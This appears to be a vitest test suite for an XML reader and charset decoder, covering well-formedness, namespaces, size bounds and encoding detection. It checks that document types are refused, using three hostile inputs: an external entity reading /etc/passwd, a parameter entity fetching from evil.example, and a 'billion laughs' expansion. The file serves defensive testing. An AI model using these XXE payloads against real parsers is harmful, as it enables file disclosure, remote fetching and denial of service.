import { describe, expect, test } from "vitest";
import { limits } from "../../../../shared/limits.ts";
import { decodeXml } from "../../../../shared/policy/translate/xml-charset.ts";
import { readXml, type XmlElement } from "../../../../shared/policy/translate/xml-reader.ts";

const { depthMax, nodesMax } = limits.reshape;
const { attributesMax, nameCharsMax } = limits.translation;

/** A short way to say what was read. */
function shown({ local, namespace, attributes, elements, text }: XmlElement): string {
  const named = (name: string, uri: string): string => (uri === "" ? name : `{${uri}}${name}`);
  const all = attributes.map((one) => ` ${named(one.local, one.namespace)}=${JSON.stringify(one.value)}`).join("");
  return `${named(local, namespace)}${all}(${JSON.stringify(text)}${elements.map((one) => ` ${shown(one)}`).join("")})`;
}
const read = (xml: string): string => {
  try {
    return shown(readXml(xml));
  } catch (cause) {
    const { fault, message } = cause as { fault?: string; message: string };
    return `${fault}: ${message.replace(/^it is no XML that is read: /, "")}`;
  }
};

describe("what is well-formed", () => {
  test.each([
    ["<a/>", 'a("")'],
    ["<a>1<b>2</b>3</a>", 'a("13" b("2"))'],
    ['<?xml version="1.0" encoding="UTF-8" standalone=\'yes\' ?>\n<!-- c --><?p i?>\n<a/>\n<!-- c -->', 'a("")'],
    ["<a x='1' y=\"2\" />", 'a x="1" y="2"("")'],
    ["<a x = '1'></a >", 'a x="1"("")'],
    ["<a x='>&lt;&amp;&quot;&#10;'/>", 'a x=">&lt;&amp;\\"\\n"("")'.replace("&lt;&amp;", "<&")],
    ["<a x='1\n2\t3'/>", 'a x="1 2 3"("")'],
    ["<a>1\r\n2\r3</a>", 'a("1\\n2\\n3")'],
    ["<a>&#13;&#x41;&#000066;&apos;</a>", 'a("\\rAB\'")'],
    ["<a>ad<!-- no -->min</a>", 'a("admin")'],
    ["<a>ad<?no?>min</a>", 'a("admin")'],
    ["<a><![CDATA[<b>]]&amp;]]>]</a>", 'a("<b>]]&amp;]")'],
    ["<a>&amp;lt;</a>", 'a("&lt;")'],
    ["<é-1.ü>ß</é-1.ü>", 'é-1.ü("ß")'],
    ["<a>\u{1F600}</a>", 'a("\u{1F600}")'],
    ["<a xmlns='u'><b/><c xmlns=''/></a>", '{u}a("" {u}b("") c(""))'],
    ["<p:a xmlns:p='u' p:x='1' x='2'/>", '{u}a {u}x="1" x="2"("")'],
    ["<p:a xmlns:p='u'><p:a xmlns:p='v'/><p:b/></p:a>", '{u}a("" {v}a("") {u}b(""))'],
    ["<a xml:lang='en'/>", 'a {http://www.w3.org/XML/1998/namespace}lang="en"("")'],
    ["<__proto__/>", '__proto__("")'],
  ])("%s", (xml, expected) => {
    expect(read(xml)).toBe(expected);
  });
});

describe("what is not, or not read", () => {
  test.each([
    ["", "it has no element (line 1)"],
    ["hello", "text outside of every element (line 1)"],
    ["<a>", "it ends within an element (line 1)"],
    ["<a><b></a></b>", "an end tag of no element (line 1)"],
    ["<a></ab>", "an end tag of another name, or one that does not end (line 1)"],
    ["<ab></a>", "an end tag of no element (line 1)"],
    ["<a></a", "an end tag of another name, or one that does not end (line 1)"],
    ["<a></a x='1'>", "an end tag of another name, or one that does not end (line 1)"],
    ["<a/>\n</b>", "an end tag of no element (line 2)"],
    ["<a/><b/>", "a second outermost element (line 1)"],
    ["<a/>x", "text outside of every element (line 1)"],
    ["<a/><![CDATA[x]]>", "a CDATA section that does not end, or has no place here (line 1)"],
    ["&amp;<a/>", "text outside of every element (line 1)"],
    ["<a", "a tag that does not end, or attributes without a space between them (line 1)"],
    ["<a/", "a tag that does not end (line 1)"],
    ["<a x", "an attribute without a value (line 1)"],
    ["<a x>", "an attribute without a value (line 1)"],
    ["<a x=1/>", "an attribute whose value does not begin or end with a quote (line 1)"],
    ["<a x='1/>", "an attribute whose value does not begin or end with a quote (line 1)"],
    ["<a x='1'y='2'/>", "a tag that does not end, or attributes without a space between them (line 1)"],
    ["<a x='<'/>", "`<` in an attribute (line 1)"],
    ["<a x='1' x='2'/>", "an attribute twice at one element (line 1)"],
    ["<a p:x='1' q:x='2' xmlns:p='u' xmlns:q='u'/>", "an attribute twice at one element (line 1)"],
    ["<1a/>", "a name was expected (line 1)"],
    ["< a/>", "a name was expected (line 1)"],
    ["<:a/>", "a name was expected (line 1)"],
    ["<a:b:c xmlns:a='u'/>", "a tag that does not end, or attributes without a space between them (line 1)"],
    ["<a>a & b</a>", "a reference to what XML does not have (line 1)"],
    ["<a>&foo;</a>", "a reference to what XML does not have (line 1)"],
    ["<a>&toString;</a>", "a reference to what XML does not have (line 1)"],
    ["<a>&#0;</a>", "a reference to what XML does not have (line 1)"],
    ["<a>&#xD800;</a>", "a reference to what XML does not have (line 1)"],
    ["<a>&#x110000;</a>", "a reference to what XML does not have (line 1)"],
    ["<a>&#99999999999999999999;</a>", "a reference to what XML does not have (line 1)"],
    ["<a>&#X41;</a>", "a reference to what XML does not have (line 1)"],
    ["<a>]]></a>", "`]]>` in a text (line 1)"],
    ["<a><!-- a -- b --></a>", "a comment that does not end, or has `--` in it (line 1)"],
    ["<a><!--a--->", "a comment that does not end, or has `--` in it (line 1)"],
    ["<a><!-- ", "a comment that does not end, or has `--` in it (line 1)"],
    ["<a><![CDATA[x]]", "a CDATA section that does not end, or has no place here (line 1)"],
    ["<a><?xml version='1.0'?></a>", "an instruction of a name it cannot have (line 1)"],
    [" <?xml version='1.0'?><a/>", "an instruction of a name it cannot have (line 1)"],
    ["<a><?p", "a processing instruction that does not end (line 1)"],
    ["<a><? p?></a>", "a name was expected (line 1)"],
    ["<?xml version='1.1'?><a/>", "it is not of version 1.0 (line 1)"],
    ["<?xml encoding='UTF-8'?><a/>", "its declaration cannot be read (line 1)"],
    ["<?xml version='1.0' encoding='<a/>'?>", "its declaration cannot be read (line 1)"],
    ["<p:a/>", "a namespace prefix that nothing declares (line 1)"],
    ["<a p:x='1'/>", "a namespace prefix that nothing declares (line 1)"],
    ["<a><b xmlns:p='u'/><p:c/></a>", "a namespace prefix that nothing declares (line 1)"],
    ["<a xmlns:p=''/>", "a namespace prefix that cannot be declared so (line 1)"],
    ["<a xmlns:xml='u'/>", "a namespace prefix that cannot be declared so (line 1)"],
    ["<a xmlns:xmlns='u'/>", "a namespace prefix that cannot be declared so (line 1)"],
    ["<a xmlns='http://www.w3.org/2000/xmlns/'/>", "a namespace prefix that cannot be declared so (line 1)"],
    ["<a xmlns:p='u' xmlns:p='u'/>", "a namespace prefix twice at one element (line 1)"],
  ])("%s", (xml, reason) => {
    expect(read(xml)).toBe(`form: ${reason}`);
  });

  test.each([
    ["a document type", "<!DOCTYPE a><a/>"],
    ["an external entity", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ["a parameter entity", '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'],
    ["a billion laughs", '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l "l"><!ENTITY l2 "&l;&l;">]><l>&l2;</l>'],
    ["one within an element", "<a><!DOCTYPE a></a>"],
    ["a declaration within an element", '<a><!ENTITY x "y"></a>'],
  ])("%s is refused", (_, xml) => {
    expect(read(xml)).toMatch(/^form: a document type, which is not read/);
  });

  test.each([["\u0000"], ["\u0001"], ["\uFFFE"], ["\ud800"], ["\udc00x"], ["\u001b"]])(
    "the character %j",
    (character) => {
      for (const xml of [`<a>${character}</a>`, `<a x='${character}'/>`, `<a><!--${character}--></a>`])
        expect(read(xml)).toMatch(/^form: it is no XML: it has a character/);
    },
  );
});

describe("bounds, and one past them", () => {
  const nested = (levels: number): string => "<a>".repeat(levels) + "</a>".repeat(levels);
  test("levels", () => {
    expect(read(nested(depthMax))).toMatch(/^a\(/);
    for (const levels of [depthMax + 1, 10_000, 150_000])
      expect(read(nested(levels))).toMatch(/^bounds: it is nested deeper/);
    expect(read("<a>".repeat(300_000))).toMatch(/^bounds: /);
  });
  test("elements, attributes and texts", () => {
    expect(read(`<a>${"<b/>".repeat(nodesMax - 1)}</a>`)).toMatch(/^a\(/);
    expect(read(`<a>${"<b/>".repeat(nodesMax)}</a>`)).toMatch(/^bounds: it has more than/);
    expect(read(`<a>${"<?p?>".repeat(nodesMax)}</a>`)).toMatch(/^bounds: it has more than/);
    const attributes = (count: number): string =>
      `<a${Array.from({ length: count }, (_, at) => ` x${at}=''`).join("")}/>`;
    expect(read(attributes(attributesMax))).toMatch(/^a /);
    expect(read(attributes(attributesMax + 1))).toMatch(/^bounds: an element has more/);
  });
  test("names", () => {
    expect(read(`<${"a".repeat(nameCharsMax)}/>`)).toMatch(/^a/);
    expect(read(`<${"a".repeat(nameCharsMax + 1)}/>`)).toMatch(/^bounds: a name has more/);
  });
  test("every cut of a document is refused or read, and nothing else is thrown", () => {
    const xml = `<?xml version="1.0"?><!--c--><p:a xmlns:p='u' x="&#65;">t&amp;<![CDATA[d]]><b/><?p i?></p:a>`;
    for (let at = 0; at < xml.length; at++) expect(read(xml.slice(0, at))).toMatch(/^form: /);
    for (let at = 1; at < xml.length; at++) expect(read(xml.slice(at))).not.toMatch(/^undefined/);
  });
});

describe("encodings", () => {
  const utf16 = (text: string, isLittle: boolean): Uint8Array =>
    Uint8Array.from(
      [...text].flatMap((one) => {
        const [low, high] = [one.charCodeAt(0) & 0xff, one.charCodeAt(0) >> 8];
        return isLittle ? [low, high] : [high, low];
      }),
    );
  const bytes = (text: string): Uint8Array => Uint8Array.from(text, (one) => one.charCodeAt(0));
  const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
  const outcome = (content: Uint8Array, type?: string): string => {
    try {
      return decodeXml(content, type);
    } catch (cause) {
      return `refused: ${(cause as Error).message}`;
    }
  };
  test.each<[string, Uint8Array, string | undefined, string]>([
    ["UTF-8", utf8("<ä/>"), undefined, "<ä/>"],
    ["UTF-8 by its mark, whatever is said", utf8("\ufeff<ä/>"), "text/xml; charset=iso-8859-1", "<ä/>"],
    ["UTF-16 by its mark", utf16("\ufeff<ä/>", true), undefined, "<ä/>"],
    ["UTF-16, the other order", utf16("\ufeff<ä/>", false), "application/xml", "<ä/>"],
    ["UTF-16 by its type", utf16("<ä/>", false), 'text/xml; charset="UTF-16BE"', "<ä/>"],
    ["latin-1 by its type", bytes("<\xe4/>\x80"), "text/xml; charset=ISO-8859-1", "<ä/>\u0080"],
    [
      "latin-1 by its declaration",
      bytes("<?xml version='1.0' encoding='ISO-8859-1'?><\xe4/>"),
      "text/xml",
      "<?xml version='1.0' encoding='ISO-8859-1'?><ä/>",
    ],
    [
      "the type goes before the declaration",
      utf8("<?xml version='1.0' encoding='ISO-8859-1'?><ä/>"),
      "text/xml;charset=utf-8",
      "<?xml version='1.0' encoding='ISO-8859-1'?><ä/>",
    ],
    ["ASCII that is none", bytes("<\xe4/>"), "text/xml; charset=us-ascii", "refused: it is not us-ascii"],
    ["no UTF-8", bytes("<\xe4/>"), undefined, "refused: it is not utf-8"],
    ["an overlong form", Uint8Array.from([0x3c, 0xc0, 0xbc]), undefined, "refused: it is not utf-8"],
    ["half of a UTF-16 character", Uint8Array.from([0xff, 0xfe, 0x3c]), undefined, "refused: it is not utf-16le"],
    [
      "UTF-16 that begins nowhere",
      utf16("<ä/>", true),
      "text/xml; charset=utf-16",
      "refused: its encoding utf-16 is not read",
    ],
    ["UTF-7", utf8("+ADw-a/>"), "text/xml; charset=utf-7", "refused: its encoding utf-7 is not read"],
    [
      "EBCDIC",
      utf8("<?xml version='1.0' encoding=\"IBM037\"?><a/>"),
      undefined,
      "refused: its encoding ibm037 is not read",
    ],
    ["Windows", utf8("<a/>"), "text/xml; charset=windows-1252", "refused: its encoding windows-1252 is not read"],
    ["an empty body", new Uint8Array(), undefined, ""],
  ])("%s", (_, content, type, expected) => {
    expect(outcome(content, type)).toBe(expected);
  });
  test("UTF-16 that nobody says is no XML", () => {
    expect(read(outcome(utf16("<a/>", true)))).toMatch(/^form: /);
  });
});
